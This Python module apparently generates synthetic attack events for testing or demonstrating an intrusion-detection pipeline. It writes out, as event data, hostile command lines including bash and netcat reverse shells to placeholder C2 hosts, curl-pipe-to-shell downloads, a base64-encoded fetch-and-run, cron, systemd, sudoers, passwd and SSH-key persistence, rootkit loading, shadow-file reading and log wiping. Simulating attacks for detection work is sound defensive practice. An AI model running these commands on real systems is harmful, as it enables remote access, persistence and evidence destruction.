"""Attack stories injected into the generated stream (and used by the demo).

Each story is ``fn(gen, host, t0_us) -> [(ts_us, event_dict), ...]``.  Stories
only use public, well-known attacker tradecraft; the literals (addresses,
file names, ports) vary with the generator's seed.
"""

from __future__ import annotations

import random
from typing import Callable

S = 1_000_000  # one second in µs


class _Story:
    """Small helper: a clock plus event list for one story."""

    def __init__(self, gen, host, t0: int):
        self.g, self.h, self.t = gen, host, t0
        self.r: random.Random = gen.r
        self.out: list[tuple[int, dict]] = []

    def tick(self, lo_ms: int = 50, hi_ms: int = 2000) -> int:
        self.t += self.r.randint(lo_ms, hi_ms) * 1000
        return self.t

    def spawn(self, parent, args: list[str], exe: str, uid: str | None = None, uname: str | None = None,
              cwd: str | None = None):
        t = self.tick()
        p = self.g.new_proc(self.h, parent, args, exe, uid or parent.uid, uname or parent.uname, "short", "",
                            cwd=cwd, start_us=t)
        self.out.append((t, self.g.proc_event(p, "start", t)))
        return p

    def exit(self, p, code: int = 0) -> None:
        t = self.tick(10, 500)
        self.out.append((t, self.g.proc_event(p, "end", t, exit_code=code)))

    def file(self, p, path: str, etype: str = "creation") -> None:
        t = self.tick()
        self.out.append((t, self.g.file_event(p, path, etype, t)))

    def net(self, p, ip: str, port: int, direction: str = "egress") -> None:
        t = self.tick()
        self.out.append((t, self.g.net_event(p, ip, port, t, direction)))

    def web_parent(self):
        for name in ("php-fpm8.2", "nginx", "java", "node"):
            if name in self.h.daemons:
                return self.h.daemons[name]
        return None

    def shell(self, uid: str = "0", uname: str = "root"):
        """An interactive shell under sshd (the attacker's foothold)."""
        sshd = self.h.daemons["sshd"]
        sess = self.spawn(sshd, [f"sshd: {uname}@pts/{self.r.randint(0, 9)}"], "/usr/sbin/sshd", "0", "root")
        return self.spawn(sess, ["-bash"], "/usr/bin/bash", uid, uname,
                          cwd="/root" if uname == "root" else f"/home/{uname}")

    def c2(self) -> str:
        return self.r.choice(["203.0.113.45", "198.51.100.23", "198.51.100.7", "45.9.148.99", "194.87.102.11",
                              "2001:db8:bad::17"])

    def drop_name(self) -> str:
        return self.r.choice(["kworkerd", "kdevtmpfsi", ".x", "dbus-helper", "systemd-log", ".cache-sync", "xmrig"])


def reverse_shell_bash(g, h, t0):
    s = _Story(g, h, t0)
    web = s.web_parent() or s.shell("1001", "deploy")
    ip, port = s.c2(), s.r.choice([4444, 1337, 9001, 8443, 53])
    sh = s.spawn(web, ["sh", "-c", f"bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'"], "/usr/bin/dash")
    b = s.spawn(sh, ["bash", "-c", f"bash -i >& /dev/tcp/{ip}/{port} 0>&1"], "/usr/bin/bash")
    s.net(b, ip, port)
    s.spawn(b, ["id"], "/usr/bin/id")
    s.spawn(b, ["uname", "-a"], "/usr/bin/uname")
    return s.out


def netcat_exec(g, h, t0):
    s = _Story(g, h, t0)
    sh = s.shell("1001", "deploy")
    ip, port = s.c2(), s.r.choice([4444, 9001, 31337])
    nc = s.spawn(sh, ["nc", "-e", "/bin/sh", ip, str(port)], "/usr/bin/nc.traditional")
    s.net(nc, ip, port)
    return s.out


def python_pty(g, h, t0):
    s = _Story(g, h, t0)
    web = s.web_parent() or s.shell("33", "www-data")
    py = s.spawn(web, ["python3", "-c", "import pty; pty.spawn('/bin/bash')"], "/usr/bin/python3.11")
    s.spawn(py, ["/bin/bash"], "/usr/bin/bash")
    return s.out


def curl_pipe_shell(g, h, t0):
    s = _Story(g, h, t0)
    sh = s.shell()
    ip = s.c2()
    url = f"http://{ip}/{s.r.choice(['i.sh', 'install.sh', 'x', 'setup'])}"
    tool = s.r.choice(["curl -fsSL", "wget -qO-", "curl -s"])
    c = s.spawn(sh, ["sh", "-c", f"{tool} {url} | {s.r.choice(['sh', 'bash'])}"], "/usr/bin/dash")
    dl = s.spawn(c, tool.split()[:1] + tool.split()[1:] + [url], "/usr/bin/" + tool.split()[0])
    s.net(dl, ip, 80)
    s.spawn(c, ["sh"], "/usr/bin/dash")
    return s.out


def download_chmod_exec(g, h, t0):
    s = _Story(g, h, t0)
    sh = s.shell(*s.r.choice([("0", "root"), ("1001", "deploy"), ("33", "www-data")]))
    ip = s.c2()
    d = s.r.choice(["/tmp", "/dev/shm", "/var/tmp"])
    name = s.drop_name()
    path = f"{d}/{name}"
    w = s.spawn(sh, ["wget", "-q", f"http://{ip}/{name}", "-O", path], "/usr/bin/wget")
    s.net(w, ip, 80)
    s.file(w, path, "creation")
    s.exit(w)
    s.spawn(sh, ["chmod", "+x", path], "/usr/bin/chmod")
    m = s.spawn(sh, [path, "-c", "/tmp/.cfg"] if name != "xmrig" else [path, "-o", f"stratum+tcp://{ip}:3333"], path)
    s.net(m, ip, 3333)
    return s.out


def cron_persistence(g, h, t0):
    s = _Story(g, h, t0)
    sh = s.shell()
    ip = s.c2()
    target = s.r.choice(["/etc/cron.d/apt-check", "/var/spool/cron/crontabs/root", "/etc/crontab",
                         "/etc/cron.hourly/0anacron-update"])
    e = s.spawn(sh, ["sh", "-c", f"echo '*/5 * * * * root curl -s http://{ip}/p | sh' >> {target}"], "/usr/bin/dash")
    s.file(e, target, "change" if target == "/etc/crontab" else "creation")
    return s.out


def systemd_persistence(g, h, t0):
    s = _Story(g, h, t0)
    sh = s.shell()
    name = s.r.choice(["dbus-helper", "network-sync", "systemd-journal-upload2", "kthreadd-user"])
    unit = s.r.choice(["/etc/systemd/system", "/lib/systemd/system", "/root/.config/systemd/user"]) + f"/{name}.service"
    cp = s.spawn(sh, ["cp", "/tmp/x.service", unit], "/usr/bin/cp")
    s.file(cp, unit, "creation")
    s.spawn(sh, ["systemctl", "enable", "--now", f"{name}.service"], "/usr/bin/systemctl")
    return s.out


def user_then_sudoers(g, h, t0):
    s = _Story(g, h, t0)
    sh = s.shell()
    user = s.r.choice(["support", "sysadm", "backup2", "ops-svc"])
    ua = s.spawn(sh, ["useradd", "-m", "-s", "/bin/bash", user], "/usr/sbin/useradd")
    s.file(ua, "/etc/passwd", "change")
    s.file(ua, "/etc/shadow", "change")
    e = s.spawn(sh, ["sh", "-c", f"echo '{user} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"], "/usr/bin/dash")
    s.file(e, "/etc/sudoers", "change")
    return s.out


def passwd_append(g, h, t0):
    s = _Story(g, h, t0)
    sh = s.shell()
    e = s.spawn(sh, ["sh", "-c", "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd"], "/usr/bin/dash")
    s.file(e, "/etc/passwd", "change")
    return s.out


def ssh_key_implant(g, h, t0):
    s = _Story(g, h, t0)
    uid, uname = s.r.choice([("0", "root"), ("1000", "ubuntu"), ("1001", "deploy")])
    sh = s.shell(uid, uname)
    home = "/root" if uname == "root" else f"/home/{uname}"
    e = s.spawn(sh, ["sh", "-c", f"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK attacker@kali' >> {home}/.ssh/authorized_keys"],
                "/usr/bin/dash")
    s.file(e, f"{home}/.ssh/authorized_keys", "change")
    return s.out


def kernel_module(g, h, t0):
    s = _Story(g, h, t0)
    sh = s.shell()
    ko = f"/tmp/{s.r.choice(['diamorphine', 'rk', 'nfs_helper'])}.ko"
    w = s.spawn(sh, ["curl", "-so", ko, f"http://{s.c2()}/m.ko"], "/usr/bin/curl")
    s.file(w, ko)
    s.spawn(sh, ["insmod", ko], "/usr/sbin/insmod")
    return s.out


def base64_exec(g, h, t0):
    s = _Story(g, h, t0)
    web = s.web_parent() or s.shell("33", "www-data")
    blob = s.r.choice(["Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaAo=", "aWQ7IHVuYW1lIC1hCg==", "d2hvYW1pCg=="])
    sh = s.spawn(web, ["sh", "-c", f"echo {blob} | base64 -d | sh"], "/usr/bin/dash")
    s.spawn(sh, ["base64", "-d"], "/usr/bin/base64")
    s.spawn(sh, ["sh"], "/usr/bin/dash")
    return s.out


def history_clear(g, h, t0):
    s = _Story(g, h, t0)
    sh = s.shell()
    if s.r.random() < 0.5:
        rm = s.spawn(sh, ["rm", "-f", "/root/.bash_history"], "/usr/bin/rm")
        s.file(rm, "/root/.bash_history", "deletion")
    else:
        s.spawn(sh, ["ln", "-sf", "/dev/null", "/root/.bash_history"], "/usr/bin/ln")
    return s.out


def setuid_bit(g, h, t0):
    s = _Story(g, h, t0)
    sh = s.shell()
    tgt = s.r.choice(["/tmp/.sh", "/var/tmp/bash", "/dev/shm/.p"])
    cp = s.spawn(sh, ["cp", "/bin/bash", tgt], "/usr/bin/cp")
    s.file(cp, tgt)
    s.spawn(sh, ["chmod", s.r.choice(["u+s", "4755", "+s"]), tgt], "/usr/bin/chmod")
    return s.out


def ld_preload(g, h, t0):
    s = _Story(g, h, t0)
    sh = s.shell()
    e = s.spawn(sh, ["sh", "-c", "echo /usr/local/lib/libsystem.so > /etc/ld.so.preload"], "/usr/bin/dash")
    s.file(e, "/etc/ld.so.preload", "creation")
    return s.out


def container_escape(g, h, t0):
    s = _Story(g, h, t0)
    if "containerd-shim-runc-v2" in h.daemons:
        parent = s.spawn(h.daemons["containerd-shim-runc-v2"], ["/bin/sh"], "/bin/sh")
    else:
        parent = s.shell()
    s.spawn(parent, ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash"], "/usr/bin/nsenter")
    return s.out


def shadow_read(g, h, t0):
    s = _Story(g, h, t0)
    sh = s.shell()
    s.spawn(sh, ["cat", "/etc/shadow"], "/usr/bin/cat")
    s.spawn(sh, ["unshadow", "/etc/passwd", "/etc/shadow"], "/usr/sbin/unshadow")
    return s.out


def webshell_recon(g, h, t0):
    s = _Story(g, h, t0)
    web = s.web_parent() or s.shell("33", "www-data")
    sh = s.spawn(web, ["sh", "-c", "id;uname -a;cat /etc/passwd"], "/usr/bin/dash")
    s.spawn(sh, ["id"], "/usr/bin/id")
    s.spawn(sh, ["uname", "-a"], "/usr/bin/uname")
    return s.out


def log_tamper(g, h, t0):
    s = _Story(g, h, t0)
    sh = s.shell()
    log = s.r.choice(["/var/log/auth.log", "/var/log/wtmp", "/var/log/secure", "/var/log/syslog"])
    if s.r.random() < 0.5:
        t = s.spawn(sh, ["shred", "-u", log], "/usr/bin/shred")
    else:
        t = s.spawn(sh, ["truncate", "-s", "0", log], "/usr/bin/truncate")
    s.file(t, log, "deletion")
    return s.out


def web_shell_dropper(g, h, t0):
    s = _Story(g, h, t0)
    web = s.web_parent() or s.shell("33", "www-data")
    path = f"/srv/web/uploads/{s.r.choice(['cmd', 'shell', 'up', 'wso'])}.php"
    s.file(web, path, "creation")
    sh = s.spawn(web, ["sh", "-c", "whoami"], "/usr/bin/dash")
    s.spawn(sh, ["whoami"], "/usr/bin/whoami")
    return s.out


STORIES: dict[str, Callable] = {
    "reverse_shell_bash": reverse_shell_bash,
    "netcat_exec": netcat_exec,
    "python_pty": python_pty,
    "curl_pipe_shell": curl_pipe_shell,
    "download_chmod_exec": download_chmod_exec,
    "cron_persistence": cron_persistence,
    "systemd_persistence": systemd_persistence,
    "user_then_sudoers": user_then_sudoers,
    "passwd_append": passwd_append,
    "ssh_key_implant": ssh_key_implant,
    "kernel_module": kernel_module,
    "base64_exec": base64_exec,
    "history_clear": history_clear,
    "setuid_bit": setuid_bit,
    "ld_preload": ld_preload,
    "container_escape": container_escape,
    "shadow_read": shadow_read,
    "webshell_recon": webshell_recon,
    "log_tamper": log_tamper,
    "web_shell_dropper": web_shell_dropper,
}
